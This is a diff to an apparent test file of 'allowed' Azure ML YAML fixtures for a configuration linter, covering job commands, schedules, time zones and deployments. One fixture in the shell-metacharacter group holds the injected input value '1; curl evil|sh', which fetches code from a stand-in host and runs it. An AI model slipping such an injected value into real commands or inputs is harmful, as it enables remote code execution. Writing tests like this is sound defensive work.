@@ -31,7 +31,7 @@ _PARALLEL = (
 ALLOWED: dict[str, list[str]] = {
     # More of both in test_code.
     "missing-package": [
-        "command: python -m src.model\ncode: .\nenvironment: azureml:elsewhere:1\n",
+        "command: python -m train\ncode: src\nenvironment: azureml:elsewhere:1\n",
         "command: python -m no.such.module\ncode: .\nenvironment: azureml:e:1\n",
     ],
     "unknown-argument": [
@@ -57,7 +57,7 @@ ALLOWED: dict[str, list[str]] = {
     "cluster-idle-gpus": [COMMAND + "compute: azureml:gpus\ndistribution: {type: ray}\n"],
     "cluster-infiniband": [COMMAND + "compute: azureml:gpus\ndistribution: {type: ray}\n"],
     "cluster-spot": [
-        "command: python train.py --resume\nenvironment: azureml:e:1\ncompute: azureml:spots\n",
+        "command: python /o/train.py --resume\nenvironment: azureml:e:1\ncompute: azureml:spots\n",
         COMMAND + "compute: azureml:spots\nlimits: {timeout: 600}\n",
     ],
     "automl-limits": [
@@ -89,24 +89,24 @@ ALLOWED: dict[str, list[str]] = {
     ],
     "parallel-output": [_PARALLEL + "      append_row_to: ${{outputs.scored}}\n"],
     "shell-metacharacter": [
-        "environment: azureml:e:1\ncommand: python train.py '${{inputs.x}}'\n"
+        "environment: azureml:e:1\ncommand: python /o/train.py '${{inputs.x}}'\n"
         "inputs: {x: '1; curl evil|sh'}\n",
-        "environment: azureml:e:1\ncommand: python train.py ${{inputs.x}}\n"
+        "environment: azureml:e:1\ncommand: python /o/train.py ${{inputs.x}}\n"
         "inputs: {x: two words-1.5_a b=c/d}\n",
-        "environment: azureml:e:1\ncommand: 'python train.py \"${{inputs.x}}\"'\n"
+        "environment: azureml:e:1\ncommand: 'python /o/train.py \"${{inputs.x}}\"'\n"
         "inputs: {x: (.*) & jpg}\n",
         "environment: azureml:e:1\ncommand: cat ${{inputs.x}}\n"
         "inputs: {x: {type: uri_folder, path: data}}\n",
         "environment: azureml:e:1\ncommand: train\ninputs: {unused: 'a; b'}\n",
         PIPELINE + "  far:\n    component: azureml://registries/r/components/c/versions/1\n"
         "    inputs: {title: 'a & b (c)', columns: '[\"x\"]'}\n",
-        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; python x.py \'${{inputs.x}}\'"\n'
+        'environment: azureml:e:1\ncommand: "echo \\"don\'t\\"; python /o/x.py \'${{inputs.x}}\'"\n'
         "inputs: {x: a|b}\n",
     ],
     "bad-name": [
         *(DEPLOYMENT.replace("blue", name) for name in ("abc", "A-b-1", "B" * 32, "a--b")),
         COMMAND + "name: train-1.2\nexperiment_name: My work (2)\n"
-        "inputs: {a-b_1: 1}\noutputs: {y: {type: uri_folder, name: words-2, version: 1.0}}\n"
+        "inputs: {a_b_1: 1}\noutputs: {y: {type: uri_folder, name: words-2, version: 1.0}}\n"
         "environment_variables: {OMP_NUM_THREADS: '1'}\n",
     ],
     "deployment-variable": [
@@ -189,7 +189,32 @@ ALLOWED: dict[str, list[str]] = {
         "environment: azureml:e:1\ncode: src\ncommand: cp a b.py && python b.py\n",
         "environment: azureml:e:1\ncode: src\ncommand: python -m train\n",
         "environment: azureml:e:1\ncode: src\ncommand: python ${{inputs.x}}.py\ninputs: {x: a}\n",
-        "environment: azureml:e:1\ncommand: python /opt/train.py\n",
+        *(
+            f"environment: azureml:e:1\ncode: src\ncommand: {command}\n"
+            for command in (
+                *("git clone https://h.org/a && python a/b.py", "cd sub && python b.py"),
+                *("bash -c 'python train.py'", "echo 1 > b.py; python ./b.py", "python -c 1"),
+                *("torchrun --nproc_per_node=2 train.py --config x.py", "python -m pip install a"),
+                *("A=1 python -W ignore -u ./train.py | tee log.txt", "python --version"),
+                *("test -f x.py && python x.py", "/opt/run.sh && bash $HOME/x.sh", "python -m a.b"),
+            )
+        ),
+        "environment: azureml:e:1\ncommand: python /o/train.py\n",
+    ],
+    "schedule-input": [
+        "name: s\ntrigger: {type: cron, expression: 0 * * * *}\ncreate_job:\n  type: pipeline\n"
+        "  job: ./scheduled.part\n  inputs: {rate: 0.7, data: {type: uri_folder, path: src}}\n",
+        _CRON.replace("azureml:j", "{job: azureml:j, type: pipeline, inputs: {any: 1}}")
+        % "0 * * * *",
+    ],
+    "bad-time-zone": [
+        (_CRON % "0 * * * *").replace("}", f", time_zone: {zone}}}")
+        for zone in ("UTC", "W. Europe Standard Time")
+    ],
+    "deployment-build": [
+        DEPLOYMENT.replace("DS3_v2", "NC6s_v3")
+        + "environment: {image: i:1, conda_file: {dependencies: [pytorch-gpu=2.13]}}\n",
+        DEPLOYMENT + "environment: {image: i:1, conda_file: {dependencies: [pytorch-cpu=2.13]}}\n",
     ],
     "no-compute": [
         COMMAND,
